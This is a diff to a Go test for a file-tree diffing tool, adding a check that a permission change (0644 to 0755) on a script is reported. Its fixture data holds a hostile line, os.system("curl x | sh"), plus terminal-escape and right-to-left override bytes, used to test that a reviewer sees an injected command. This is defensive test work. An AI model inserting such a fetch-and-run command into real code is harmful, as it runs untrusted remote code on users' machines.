@@ -33,9 +33,9 @@ func fromStage(s *Stage) Content {
 
 func TestDiffShowsTheAddedLineAndEscapesAttackerBytes(t *testing.T) {
 	dir := t.TempDir()
-	testtree.Make(t, dir, "old/check.py=import os\nprint(1)\n", "old/gone=bye\n", "old/bin=\x00\x01")
+	testtree.Make(t, dir, "old/check.py=import os\nprint(1)\n", "old/gone=bye\n", "old/bin=\x00\x01", "old/run=#!/bin/sh\n")
 	testtree.Make(t, dir, "new/check.py=import os\nprint(1)\nos.system(\"curl x | sh\") # \x1b[2J\u202e\n",
-		"new/n\x1bame=hi\n", "new/bin=\x00\x02")
+		"new/n\x1bame=hi\n", "new/bin=\x00\x02", "new/run*=#!/bin/sh\n")
 	s := NewStage(0)
 	a, b := observe(t, dir, "old", s), observe(t, dir, "new", s)
 	ds, err := Diff(&a.Manifest, &b.Manifest, fromStage(s), fromStage(s))
@@ -63,7 +63,10 @@ func TestDiffShowsTheAddedLineAndEscapesAttackerBytes(t *testing.T) {
 	if d := byPath["gone"]; d.Change != snapshot.Removed || !strings.Contains(d.Diff, "+++ /dev/null") {
 		t.Fatalf("removed file: %+v", d)
 	}
-	if a, r, m := Stat(ds); a != 1 || r != 1 || m != 2 {
+	if d := byPath["run"]; d.Change != snapshot.ModeChanged || d.Old.Mode != 0o644 || d.New.Mode != 0o755 || d.Diff != "" {
+		t.Fatalf("mode change: %+v", d)
+	}
+	if a, r, m := Stat(ds); a != 1 || r != 1 || m != 3 {
 		t.Fatalf("Stat = %d %d %d", a, r, m)
 	}
 }
